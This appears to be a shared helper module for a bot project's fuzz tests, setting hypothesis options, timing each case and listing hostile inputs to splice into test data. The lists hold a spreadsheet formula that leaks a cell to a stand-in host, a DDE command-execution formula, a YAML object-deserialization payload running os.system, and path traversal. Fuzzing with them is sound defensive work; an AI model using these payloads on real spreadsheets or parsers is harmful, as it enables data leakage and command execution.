"""Shared parts of the fuzzing suite: the hypothesis settings, hostile fragments, the case timer.

Every case is run in-process through the same functions the commands call; a ``KefuError`` is
the clean "exit 2" outcome, any other exception is a crash (exit 1 with a traceback), and a
case slower than ``MAX_SECONDS`` fails too. ``KEFU_FUZZ_EXAMPLES`` sets the examples per
target (default: a bounded run for the normal suite); ``KEFU_FUZZ_REPORT=FILE`` writes the
figures (cases, slowest) as JSON, which ``tests/bench/bench_fuzz.py`` prints for the long run.
"""

from __future__ import annotations

import os
import time
from collections.abc import Callable
from typing import Any

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

from bot.core.errors import KefuError

EXAMPLES = int(os.environ.get("KEFU_FUZZ_EXAMPLES", "100"))
MAX_SECONDS = 10.0

# derandomize: the same cases every run (a fixed seed), so a failure is reproducible in CI.
FUZZ = settings(
    max_examples=EXAMPLES,
    derandomize=True,
    deadline=None,  # timed by ``case`` with the 10 s, not hypothesis's 200 ms
    database=None,
    suppress_health_check=[
        HealthCheck.too_slow,
        HealthCheck.function_scoped_fixture,
        HealthCheck.data_too_large,
        HealthCheck.large_base_example,
    ],
)

# (target, seconds, outcome) of every case run in this process.
CASES: list[tuple[str, float, str]] = []


def case(target: str, work: Callable[[], Any]) -> Any:
    """Run one case: clean refusal or success pass; anything else fails the test."""
    started = time.perf_counter()
    outcome = "ok"
    try:
        return work()
    except KefuError:
        outcome = "refused"
        return None
    finally:
        seconds = time.perf_counter() - started
        CASES.append((target, seconds, outcome))
        assert seconds < MAX_SECONDS, f"{target}: one case took {seconds:.1f} s"


# What the probe tried, as fragments to splice into otherwise sensible input.
HOSTILE_TEXT = [
    '=HYPERLINK("http://evil.example/?leak="&B3,"点击")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1",
    "-1",
    "\x1b[2J\x1b[31m",
    "\x00",
    "\r",
    "\t",
    "\u202e",
    "亲" * 3000,
    "9" * 5000,
    "a/../../escaped",
]
HOSTILE_YAML = [
    "&a [x, x, x, x, x, x, x, x, x]",
    "[" * 2000,
    "{? [[a]] : 1}",
    "[ordered]",
    "!!python/object:os.system ls",
    "*nowhere",
    "\t- x",
    "1" * 5000,
    "{a: &b [1], c: *b}",
    '"unterminated',
    "- - - - - - - -",
]
HOSTILE_TIMES = [
    "2026-06-10T09:00:05+08:00",
    "2026-06-10T09:00:12",
    "0001-01-01T00:00:00+08:00",
    "9999-12-31T23:59:59-12:00",
    "2026-13-40T99:99:99",
    "",
    "now",
]

text_with_hostility = st.one_of(
    st.text(max_size=60),
    st.sampled_from(HOSTILE_TEXT),
    st.builds(lambda a, b: a + b, st.text(max_size=20), st.sampled_from(HOSTILE_TEXT)),
)

json_values = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(min_value=-(10**30), max_value=10**30)
    | st.floats(allow_nan=True, allow_infinity=True)
    | text_with_hostility,
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4)
    ),
    max_leaves=12,
)


@st.composite
def mutated_bytes(draw, original: bytes) -> bytes:
    """``original`` with a few random cuts, insertions and flipped bytes."""
    data = bytearray(original)
    for _ in range(draw(st.integers(1, 6))):
        if not data:
            break
        at = draw(st.integers(0, len(data) - 1))
        how = draw(st.sampled_from(["flip", "cut", "insert", "truncate"]))
        if how == "flip":
            data[at] = draw(st.integers(0, 255))
        elif how == "cut":
            del data[at : at + draw(st.integers(1, 40))]
        elif how == "insert":
            data[at:at] = draw(st.binary(max_size=12))
        else:
            del data[at:]
    return bytes(data)
